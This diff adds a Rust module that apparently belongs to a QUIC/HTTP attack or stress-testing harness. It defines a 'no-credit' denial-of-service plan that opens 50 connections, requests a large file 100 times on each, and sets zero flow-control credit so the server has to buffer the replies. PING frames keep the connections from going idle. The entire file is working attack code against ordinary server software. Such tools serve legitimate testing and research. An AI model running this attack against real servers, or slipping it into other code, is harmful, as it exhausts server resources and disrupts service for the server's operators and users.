@@ -1,0 +1,44 @@
+//! Requests for large files whose answers are not read.
+
+use courser_wire::TransportParameters;
+
+use crate::attack::{Plan, Victim};
+use crate::hooks::Hooks;
+use crate::http::{self, Method};
+
+use super::{Crowd, crowd};
+
+/// How the attack is listed.
+pub(super) const PLAN: Plan = Plan {
+    name: "no-credit",
+    labels: &["A24", "A88"],
+    summary: "100 requests for a large file on each of 50 connections without flow control credit",
+    victim: Victim::Server,
+    make: || Box::new(no_credit()),
+};
+
+fn no_credit() -> Crowd {
+    Crowd::new(50, |connection, progress, _| {
+        for _ in 0..crowd::permitted(connection, progress, 100 - progress.streams.min(100)) {
+            let id = http::request_stream(progress.streams);
+            progress.streams += 1;
+            let request = http::request(Method::Get, super::LARGE);
+            connection.push_bytes(http::stream(id, 0, &request, true));
+        }
+        // A connection that is idle would be forgotten by the victim.
+        connection.push(&courser_wire::Frame::Ping);
+    })
+    .with_begin(crowd::preface)
+    .with_hooks(|| Box::new(NoCredit))
+    .with_pause(std::time::Duration::from_millis(500))
+}
+
+/// Grants no credit for the data of streams.
+pub(super) struct NoCredit;
+
+impl Hooks for NoCredit {
+    fn edit_parameters(&mut self, parameters: &mut TransportParameters) {
+        parameters.initial_max_data = 0;
+        parameters.initial_max_stream_data_bidi_local = 0;
+    }
+}
